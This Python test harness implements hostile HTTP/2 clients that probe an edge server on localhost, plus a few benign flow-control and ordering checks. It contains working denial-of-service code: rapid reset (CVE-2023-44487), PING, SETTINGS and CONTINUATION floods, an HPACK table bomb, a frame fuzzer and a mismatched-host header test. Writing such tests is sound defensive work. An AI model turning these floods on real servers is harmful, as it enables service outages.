#!/usr/bin/env python3
"""Hostile HTTP/2 clients for the edge's limit tests, built from raw frames (hyperframe + hpack,
the packages under Python's h2), so nothing polite sits between the attack and the server.

Each mode connects (TLS with ALPN h2 and the given CA, or --cleartext), attacks, then reads what
the server sends until it closes or --timeout passes, and prints one JSON line:
  {"goaway": error code or null, "last_stream_id": ..., "resets": {stream: code}, "responses":
   number of HEADERS frames with a :status, "closed": bool, "sent_frames": n, "seconds": t}

Modes:
  rapid-reset N         N x (HEADERS for /, RST_STREAM CANCEL), back to back (CVE-2023-44487)
  ping-flood N          N PING frames
  settings-flood N      N empty SETTINGS frames
  continuation-flood N  HEADERS without END_HEADERS, then N CONTINUATION frames
  hpack-bomb N          N requests, each referencing one 4 KB dynamic-table entry 40 times
  streams N             N requests for /robots.txt in one write, before reading anything
  bad-preface           an HTTP/1.1 request instead of the connection preface
  drain PATH            not hostile: requests PATH, grants no window beyond the first 64 KB until
                        the server's GOAWAY arrives (prints "waiting" first, once data flows),
                        then opens the windows and reads to the end of the stream: shows that a
                        stream in flight at a graceful shutdown finishes ("complete", "sha256")
  order PATH,PATH,...   not hostile: large windows, then every PATH requested in one write (no
                        priority field: the server's defaults apply); prints "order", the paths
                        in the order their streams ended
  fuzz SEED             200 random but well-framed frames on one connection (HEADERS with random
                        pseudo-headers and fields — spaces, controls, NUL, non-ASCII, huge and
                        empty values —, DATA, RST_STREAM, WINDOW_UPDATE, PRIORITY, PING, SETTINGS,
                        GOAWAY, unknown types, on random streams); the server must answer or
                        refuse each, never crash (the test then checks it still serves)
  zero-window PATH      INITIAL_WINDOW_SIZE 0, one request, never a WINDOW_UPDATE: how long
                        until the server closes
  heads                 one write of requests whose heads differ, on one connection: a big one
                        (40 padding fields, br, a `host` that disagrees with :authority), then
                        smaller ones (identity; CONNECT with no :path; `host` without
                        :authority; a plain one); prints "streams": {id: {"status", "encoding",
                        "data_bytes"}} — each answer must follow its own request's fields, not
                        the previous request's (the server reuses its head buffer)
"""
import argparse, json, socket, ssl, sys, time
from hpack import Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect(args):
    raw = socket.create_connection(("127.0.0.1", args.port), timeout=args.timeout)
    if args.cleartext:
        return raw
    ctx = ssl.create_default_context(cafile=args.ca)
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(raw, server_hostname="localhost")
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    return sock


def request_block(encoder, path="/", extra=()):
    return encoder.encode([(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", "localhost"),
                           ("accept-encoding", "identity")] + list(extra))


def read_until_closed(sock, deadline, result, ack_settings=True):
    buffer = b""
    while time.time() < deadline:
        try:
            sock.settimeout(max(0.05, deadline - time.time()))
            data = sock.recv(65536)
        except socket.timeout:
            break
        except (ConnectionResetError, ssl.SSLError, OSError):
            result["closed"] = True
            break
        if not data:
            result["closed"] = True
            break
        buffer += data
        while len(buffer) >= 9:
            length = int.from_bytes(buffer[:3], "big")
            if len(buffer) < 9 + length:
                break
            frame, _ = Frame.parse_frame_header(memoryview(buffer[:9]))
            frame.parse_body(memoryview(buffer[9:9 + length]))
            buffer = buffer[9 + length:]
            if isinstance(frame, GoAwayFrame):
                result["goaway"] = frame.error_code
                result["last_stream_id"] = frame.last_stream_id
            elif isinstance(frame, RstStreamFrame):
                result["resets"][str(frame.stream_id)] = frame.error_code
            elif isinstance(frame, HeadersFrame):
                result["responses"] += 1
            elif isinstance(frame, DataFrame):
                result["data_bytes"] += len(frame.data)
            elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags and ack_settings:
                try:
                    sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
                except OSError:
                    pass
    return result


def drain(sock, encoder, path, deadline, result):
    import hashlib
    sock.sendall(HeadersFrame(1, request_block(encoder, path), flags=["END_HEADERS", "END_STREAM"]).serialize())
    buffer, body, announced, opened, complete = b"", bytearray(), False, False, False
    while time.time() < deadline and not complete:
        sock.settimeout(max(0.05, deadline - time.time()))
        try:
            data = sock.recv(65536)
        except (socket.timeout, OSError):
            break
        if not data:
            result["closed"] = True
            break
        buffer += data
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            length = int.from_bytes(buffer[:3], "big")
            frame, _ = Frame.parse_frame_header(memoryview(buffer[:9]))
            frame.parse_body(memoryview(buffer[9:9 + length]))
            buffer = buffer[9 + length:]
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, GoAwayFrame):
                result["goaway"], result["last_stream_id"] = frame.error_code, frame.last_stream_id
                if not opened:
                    opened = True
                    sock.sendall(WindowUpdateFrame(0, window_increment=1 << 30).serialize()
                                 + WindowUpdateFrame(1, window_increment=1 << 30).serialize())
            elif isinstance(frame, HeadersFrame):
                result["responses"] += 1
            elif isinstance(frame, DataFrame):
                body += frame.data
                if not announced:
                    announced = True
                    print("waiting", flush=True)
                if "END_STREAM" in frame.flags:
                    complete = True
            elif isinstance(frame, RstStreamFrame):
                result["resets"][str(frame.stream_id)] = frame.error_code
    result["complete"] = complete
    result["data_bytes"] = len(body)
    result["sha256"] = hashlib.sha256(bytes(body)).hexdigest()
    return result


def heads(sock, encoder, deadline, result):
    from hpack import Decoder
    js = "/assets/app.1a2b3c4d.js"
    padding = [("x-pad-%d" % i, "p" * 200) for i in range(40)]
    blocks = [
        (1, encoder.encode([(":method", "GET"), (":path", js), (":scheme", "https"), (":authority", "localhost"),
                            ("accept-encoding", "br")] + padding + [("host", "evil.example")])),
        (3, request_block(encoder, js)),
        (5, encoder.encode([(":method", "CONNECT"), (":authority", "localhost:443")])),
        (7, encoder.encode([(":method", "GET"), (":path", "/robots.txt"), (":scheme", "https"), ("host", "localhost"),
                            ("accept-encoding", "identity")])),
        (9, request_block(encoder, "/robots.txt")),
    ]
    sock.sendall(b"".join(HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"]).serialize() for sid, block in blocks))
    result["sent_frames"] = len(blocks)
    decoder, streams, buffer, ended = Decoder(), {}, b"", set()
    while time.time() < deadline and len(ended) < len(blocks):
        sock.settimeout(max(0.05, deadline - time.time()))
        try:
            data = sock.recv(65536)
        except (socket.timeout, OSError):
            break
        if not data:
            result["closed"] = True
            break
        buffer += data
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            length = int.from_bytes(buffer[:3], "big")
            frame, _ = Frame.parse_frame_header(memoryview(buffer[:9]))
            frame.parse_body(memoryview(buffer[9:9 + length]))
            buffer = buffer[9 + length:]
            entry = streams.setdefault(str(frame.stream_id), {"status": None, "encoding": None, "data_bytes": 0})
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, HeadersFrame):
                fields = dict((n.decode() if isinstance(n, bytes) else n, v.decode() if isinstance(v, bytes) else v)
                              for n, v in decoder.decode(frame.data, raw=True))
                entry["status"] = int(fields[":status"])
                entry["encoding"] = fields.get("content-encoding")
            elif isinstance(frame, DataFrame):
                entry["data_bytes"] += len(frame.data)
                if frame.flow_controlled_length:
                    update = WindowUpdateFrame(0, window_increment=frame.flow_controlled_length).serialize()
                    if "END_STREAM" not in frame.flags:
                        update += WindowUpdateFrame(frame.stream_id, window_increment=frame.flow_controlled_length).serialize()
                    sock.sendall(update)
            elif isinstance(frame, RstStreamFrame):
                entry["reset"] = frame.error_code
                ended.add(frame.stream_id)
            elif isinstance(frame, GoAwayFrame):
                result["goaway"] = frame.error_code
            if frame.stream_id and "END_STREAM" in getattr(frame, "flags", ()):
                ended.add(frame.stream_id)
    streams.pop("0", None)
    result["streams"] = streams


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--ca")
    p.add_argument("--cleartext", action="store_true")
    p.add_argument("--timeout", type=float, default=10)
    p.add_argument("mode")
    p.add_argument("arg", nargs="?")
    args = p.parse_args()
    sock = connect(args)
    started = time.time()
    result = {"goaway": None, "last_stream_id": None, "resets": {}, "responses": 0, "data_bytes": 0, "closed": False, "sent_frames": 0}
    encoder = Encoder()
    frames = []
    settings = SettingsFrame(0)
    if args.mode == "zero-window":
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = 0
    if args.mode == "order":
        settings.settings[SettingsFrame.INITIAL_WINDOW_SIZE] = (1 << 31) - 1
    if args.mode == "bad-preface":
        sock.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
    else:
        sock.sendall(PREFACE + settings.serialize())
    n = int(args.arg) if args.arg and args.arg.isdigit() else 0
    if args.mode == "rapid-reset":
        for i in range(n):
            sid = 1 + 2 * i
            frames.append(HeadersFrame(sid, request_block(encoder), flags=["END_HEADERS", "END_STREAM"]))
            frames.append(RstStreamFrame(sid, error_code=0x8))
    elif args.mode == "ping-flood":
        frames = [PingFrame(0, opaque_data=i.to_bytes(8, "big")) for i in range(n)]
    elif args.mode == "settings-flood":
        frames = [SettingsFrame(0) for _ in range(n)]
    elif args.mode == "continuation-flood":
        frames.append(HeadersFrame(1, request_block(encoder), flags=["END_STREAM"]))
        for i in range(n):
            frames.append(ContinuationFrame(1, encoder.encode([("x-filler-%d" % i, "y" * 100)])))
    elif args.mode == "hpack-bomb":
        big = ("x-bomb", "b" * 4000)
        for i in range(n):
            block = request_block(encoder, extra=[big] * 40)  # after the first, each is a 1-2 byte index
            frames.append(HeadersFrame(1 + 2 * i, block, flags=["END_HEADERS", "END_STREAM"]))
    elif args.mode == "streams":
        for i in range(n):
            frames.append(HeadersFrame(1 + 2 * i, request_block(encoder, "/robots.txt"), flags=["END_HEADERS", "END_STREAM"]))
    elif args.mode == "fuzz":
        import random
        rng = random.Random(int(args.arg))
        alphabet = [b"", b"/", b"*", b" ", b"\x00", b"\r\n", b"%00", b"/../..", b"\xff\xfe", b"GET", b"a" * 5000,
                    b"localhost", b"http", b"https", b"/index.html", b"/assets/app.1a2b3c4d.js?x=1", b"\t"]
        def value():
            return b"".join(rng.choice(alphabet) for _ in range(rng.randint(0, 4)))
        sid = 1
        for n in range(200):
            # Mostly requests; the frames that end a connection (bad SETTINGS, GOAWAY) are rare and late.
            roll = rng.random()
            kind = (rng.randint(0, 3) if roll < 0.7 else 4 if roll < 0.78 else 5 if roll < 0.83 else 6 if roll < 0.88
                    else 7 if roll < 0.93 else 8 if roll < 0.97 or n < 150 else 9)
            # Mostly streams that exist (so the connection lives on and requests get planned); now
            # and then an id that breaks the rules (0, even, idle, far ahead).
            stream = (max(1, sid - 2) if kind != 0 else sid) if rng.random() < 0.97 else rng.choice([0, 2, sid + 4, 2 ** 31 - 1])
            try:
                if kind <= 3:
                    fields = []
                    for name in (b":method", b":path", b":scheme", b":authority"):
                        if rng.random() < 0.9:
                            fields.append((name, value() if rng.random() < 0.3 else {b":method": b"GET", b":path": b"/index.html",
                                           b":scheme": b"https", b":authority": b"localhost"}[name]))
                    for _ in range(rng.randint(0, 6)):
                        fields.append((rng.choice([b"accept-encoding", b"range", b"if-none-match", b"host", b"x-" + value()[:20].lower(),
                                                   b"connection", b"te", b":bogus", b"cookie", b"priority"]), value()))
                    rng.shuffle(fields) if rng.random() < 0.2 else None
                    flags = ["END_HEADERS"] + (["END_STREAM"] if rng.random() < 0.8 else [])
                    try:
                        block = encoder.encode(fields)
                    except Exception:
                        continue
                    frames.append(HeadersFrame(sid if stream == max(1, sid - 2) else stream, block, flags=flags))
                    sid += 2
                elif kind == 4:
                    frames.append(DataFrame(stream, value(), flags=["END_STREAM"] if rng.random() < 0.5 else []))
                elif kind == 5:
                    frames.append(RstStreamFrame(stream, error_code=rng.randint(0, 15)))
                elif kind == 6:
                    frames.append(WindowUpdateFrame(stream, window_increment=rng.choice([1, 1024, 65535]) if rng.random() < 0.9
                                                    else rng.choice([0, 2 ** 31 - 1])))
                elif kind == 7:
                    frames.append(PingFrame(0, opaque_data=bytes(8)))
                elif kind == 8:
                    settings_frame = SettingsFrame(0)
                    key = rng.choice([1, 2, 3, 4, 5, 6, 9, 0x42])
                    settings_frame.settings[key] = (rng.choice([0, 1, 100, 16384, 2 ** 24, 2 ** 31]) if rng.random() < 0.2
                                                    else {1: 4096, 2: 0, 3: 100, 4: 65535, 5: 16384, 6: 8192, 9: 1, 0x42: 7}[key])
                    frames.append(settings_frame)
                else:
                    frames.append(GoAwayFrame(0, last_stream_id=rng.randint(0, sid), error_code=rng.randint(0, 13)))
            except Exception:
                continue
    elif args.mode == "order":
        paths = args.arg.split(",")
        sock.sendall(WindowUpdateFrame(0, window_increment=(1 << 31) - 1 - 65535).serialize()
                     + b"".join(HeadersFrame(1 + 2 * i, request_block(encoder, p), flags=["END_HEADERS", "END_STREAM"]).serialize()
                                for i, p in enumerate(paths)))
        ended, buffer, deadline = [], b"", started + args.timeout
        while len(ended) < len(paths) and time.time() < deadline:
            sock.settimeout(max(0.05, deadline - time.time()))
            try:
                data = sock.recv(65536)
            except (socket.timeout, OSError):
                break
            if not data:
                break
            buffer += data
            while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
                length = int.from_bytes(buffer[:3], "big")
                frame, _ = Frame.parse_frame_header(memoryview(buffer[:9]))
                frame.parse_body(memoryview(buffer[9:9 + length]))
                buffer = buffer[9 + length:]
                if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
                elif isinstance(frame, DataFrame):
                    result["data_bytes"] += len(frame.data)
                if isinstance(frame, (DataFrame, HeadersFrame)) and "END_STREAM" in frame.flags:
                    ended.append(paths[(frame.stream_id - 1) // 2])
        result["order"] = ended
        result["seconds"] = round(time.time() - started, 3)
        print(json.dumps(result))
        return
    elif args.mode == "drain":
        drain(sock, encoder, args.arg, started + args.timeout, result)
        result["seconds"] = round(time.time() - started, 3)
        print(json.dumps(result))
        return
    elif args.mode == "heads":
        heads(sock, encoder, started + args.timeout, result)
        result["seconds"] = round(time.time() - started, 3)
        print(json.dumps(result))
        return
    elif args.mode == "zero-window":
        frames.append(HeadersFrame(1, request_block(encoder, args.arg), flags=["END_HEADERS", "END_STREAM"]))
    if frames:
        data = b"".join(f.serialize() for f in frames)
        try:
            sock.sendall(data)
        except OSError:
            result["closed"] = True
    result["sent_frames"] = len(frames)
    read_until_closed(sock, started + args.timeout, result, ack_settings=args.mode != "settings-flood")
    result["seconds"] = round(time.time() - started, 3)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
